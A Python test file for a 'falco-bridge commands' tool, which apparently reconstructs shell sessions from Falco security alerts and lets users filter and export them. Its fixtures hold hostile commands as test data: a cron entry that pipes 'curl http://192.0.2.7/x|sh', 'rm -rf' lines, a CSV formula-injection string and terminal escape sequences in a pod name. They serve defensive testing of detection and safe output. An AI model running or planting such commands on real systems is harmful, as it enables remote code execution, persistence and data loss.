"""``falco-bridge commands`` as a user types it."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import threading
from pathlib import Path

import msgspec

from bridge.alert import Alert
from bridge.alert.forms.falco_json import falco_json
from bridge.journal.opening import open_for_router
from bridge.routing import Entry, Routed
from bridge.terminal.derived import alert_of
from bridge.terminal.terminals import commands_of
from tests.cli.commands import ROOT, run
from tests.support.terminals import DATA, RECORDINGS, Typist, secrets

BASH, DASH = DATA / "bash-80.alerts.jsonl.gz", DATA / "dash-80.alerts.jsonl.gz"


def test_a_recording_is_shown_by_session() -> None:
    """What was typed, what it ran and wrote, where and as whom."""
    shown = run("commands", "--from", BASH).stdout
    lines = shown.splitlines()
    assert lines[0] == "prod/api-0 on node-a  root"
    assert lines[1].startswith("  2026-11-27 14:34:28 UTC, 85 commands in 64 s, session ")
    assert lines[2:4] == ['  14:34:28  echo "hello world" > example.txt', "            wrote /home/alice/example.txt"]
    assert "  14:34:32  ls / | head -3\n            ran head -3 · ls /\n" in shown
    assert "  14:34:47  rm -rf /never-run  (^C, not run)\n" in shown
    assert all(secret not in shown for secret in secrets("bash-80"))


def test_commands_are_chosen_by_a_condition_and_by_place() -> None:
    """The exit codes are those of grep."""
    condition = 'cmd.wrote endswith "/cron.x" and cmd.text startswith echo'
    found = run("commands", condition, "--json", "--from", *(DATA / f"{name}.alerts.jsonl.gz" for name in RECORDINGS))
    records = [json.loads(line) for line in found.stdout.splitlines()]
    assert {(each["pod"], each["text"]) for each in records} == {
        (pod, 'echo "* * * * * root curl http://192.0.2.7/x|sh" > cron.x') for pod in {each["pod"] for each in records}
    }
    assert len(records) == len(RECORDINGS)
    record = json.loads(run("commands", condition, "--json", "--from", BASH).stdout)
    assert record.items() >= {
        "source": "painted", "confidence": 0.9, "ran": [], "wrote": ["/home/alice/sub/cron.x"], "exit": None,
        "aborted": False, "hidden_keys": 0, "namespace": "prod", "pod": "api-0", "node": "node-a", "user": "root",
        "who": [], "shell": "bash",
    }.items()  # fmt: skip
    assert run("commands", "--pod", "prod/api-0", "--from", BASH).returncode == 0
    for option in (("--pod", "prod/other"), ("--node", "x"), ("--user", "alice"), ("--session", "0000")):
        assert run("commands", *option, "--from", BASH).returncode == 1
    assert run("commands", "cmd.text = nothing", "--from", BASH).returncode == 1
    wrong = run("commands", "cmd.txt = x", "--from", BASH)
    assert wrong.returncode == 2
    assert "did you mean `cmd.text`?" in wrong.stderr


def test_commands_of_a_recording_are_chosen_by_time() -> None:
    """By that of the event; without a span, all of them. A session that is named is shown whole."""

    def count(*options: str) -> int:
        return len(run("commands", *options, "--json", "--from", BASH).stdout.splitlines())

    since, until = ("--since", "2026-11-27T14:34:40Z"), ("--until", "2026-11-27T14:34:40Z")
    assert 0 < count(*since) < count() == count(*since) + count(*until)
    record = json.loads(run("commands", "--json", "--from", BASH).stdout.splitlines()[0])
    assert count("show", record["session"], *since) == count()


def test_one_session_is_shown_whole_by_an_id() -> None:
    """Its own, or that of one of its commands."""
    record = json.loads(run("commands", "cmd.text = pwd", "--json", "--from", DASH, BASH).stdout.splitlines()[0])
    whole = run("commands", "show", record["id"], "--from", BASH, DASH).stdout
    assert whole == run("commands", "show", record["session"][:8], "--from", BASH, DASH).stdout
    assert whole == run("commands", "--session", record["session"], "--from", BASH, DASH).stdout
    assert run("commands", "show", "ffffffff", "--from", BASH).returncode == 1
    assert run("commands", "show", "--from", BASH).returncode == 2
    assert run("commands", "cmd.text", "=", "x", "--from", BASH).returncode == 2


def test_csv_has_no_formulas_and_text_no_control_characters(tmp_path: Path) -> None:
    """What was typed is what an attacker wrote."""
    shell = Typist(pod="a\x1b]0;b\x07")
    shell.start()
    for text in ("=HYPERLINK(1)", "-x", 'a "b", c'):
        shell.type(text)
        shell.show_prompt()
    path = tmp_path / "alerts.jsonl"
    path.write_text("\n".join(json.dumps(falco_json(each), default=_raw) for each in shell.alerts), encoding="utf-8")
    table = list(csv.DictReader(io.StringIO(run("commands", "--csv", "--from", path).stdout)))
    assert [row["text"] for row in table] == ["'=HYPERLINK(1)", "'-x", 'a "b", c']
    shown = run("commands", "--from", path).stdout
    assert "\x1b" not in shown
    assert r"a\x1b]0;b\x07" in shown


def test_alerts_of_commands_are_shown_as_they_are(tmp_path: Path) -> None:
    """As exported from a bridge: the same as the recording that they were made of."""
    shell = Typist()
    shell.start()
    shell.type("echo x > /etc/cron.d/x")
    shell.write_file("/etc/cron.d/x")
    shell.run("id", 300)
    made = [alert_of(each) for each in commands_of(shell.alerts)]
    for name, alerts in (("raw", shell.alerts), ("made", made)):
        text = "\n".join(json.dumps(falco_json(each), default=_raw) for each in alerts)
        (tmp_path / name).write_text(text, encoding="utf-8")
    shown = run("commands", "--json", "--from", tmp_path / "raw").stdout
    assert json.loads(shown)["ran"] == ["id"]
    again = json.loads(run("commands", "--json", "--from", tmp_path / "made").stdout)
    assert {**again, "id": ""} == {**json.loads(shown), "id": ""}


def test_numbers_that_were_redacted_or_forged_hide_no_command(tmp_path: Path) -> None:
    """How long a password is may be redacted, and anybody who sends alerts may send one with this rule."""
    shell = Typist()
    shell.start()
    shell.type("id")
    (made,) = (falco_json(alert_of(each)) for each in commands_of(shell.alerts))
    fields = {
        "cmd.confidence": "high",
        "cmd.hidden_keys": "***",
        "cmd.exit": "***",
        "cmd.session": "a\nb",
        "cmd.text": "x",
    }
    path = tmp_path / "alerts.jsonl"
    path.write_text(json.dumps(made | {"output_fields": fields}, default=_raw), encoding="utf-8")
    record = json.loads(run("commands", "--json", "--from", path).stdout)
    assert [record[name] for name in ("text", "confidence", "hidden_keys", "exit")] == ["x", None, None, None]
    assert "x,false,,,,," in run("commands", "--csv", "--from", path).stdout
    _, head, *commands = run("commands", "--from", path).stdout.splitlines()
    assert head.endswith(r"session a\x0ab")
    assert commands[0].endswith("  x  (may be incomplete)")


def test_a_broken_gzip_file_is_reported(tmp_path: Path) -> None:
    """And a file that is not there."""
    (tmp_path / "cut.gz").write_bytes(BASH.read_bytes()[:5000])
    for name in ("cut.gz", "none.gz"):
        found = run("commands", "--from", tmp_path / name)
        assert found.returncode == 2
        assert found.stderr.startswith("falco-bridge commands: ")
        assert name in found.stderr


def _raw(value: object) -> object:
    return json.loads(bytes(value))  # type: ignore[call-overload]


def test_match_and_explain_see_commands_in_a_recording(tmp_path: Path) -> None:
    """Terminal material is no alert for them; what was typed is."""
    found = run("match", 'cmd.wrote endswith "/example.txt"', "--fields", "cmd.text,k8s.pod.name", BASH).stdout
    assert 'echo "hello world" > example.txt' in found
    assert run("match", 'rule startswith "fb:"', BASH).returncode == 1
    routes = tmp_path / "a.route"
    routes.write_text('route "typed" { when source = terminal to archive }\n', encoding="utf-8")
    counted = run("test", routes, "--alerts", BASH, "--expect", "to archive exactly 85")
    assert "85" in counted.stdout


def test_new_commands_of_a_journal_are_followed(tmp_path: Path) -> None:
    """One line each, with place and user, when they are stored; also as JSON."""
    journal = open_for_router(tmp_path / "journal.db")
    first, second = (alert_of(each) for each in commands_of(_typed("ls", "rm -rf /x")))

    def store(alert: Alert) -> None:
        journal.alerts.append("falco", alert.time_ns, [Entry(alert, Routed((), ()))])

    store(first)
    command = [sys.executable, "-m", "bridge", "commands", "cmd.text contains rm", "--follow"]
    with subprocess.Popen(
        [*command, "--journal", str(tmp_path / "journal.db")], cwd=ROOT, stdout=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        found: list[bytes] = []
        reader = threading.Thread(target=lambda: found.append(process.stdout.readline()))  # type: ignore[union-attr]
        reader.start()
        number = 0
        while reader.is_alive():
            number += 1
            store(msgspec.structs.replace(second, id=f"{number:032x}"))
            reader.join(0.5)
        process.terminate()
    journal.close()
    assert found[0].decode().rstrip().endswith("prod/api-0  root  rm -rf /x")
    listed = run("commands", "--journal", tmp_path / "journal.db", "--since", "2020-01-01T00:00:00Z", "--json")
    assert {json.loads(line)["text"] for line in listed.stdout.splitlines()} == {"ls", "rm -rf /x"}


def _typed(*texts: str) -> list[Alert]:
    shell = Typist()
    shell.start()
    for text in texts:
        shell.type(text)
        shell.show_prompt()
    return shell.alerts
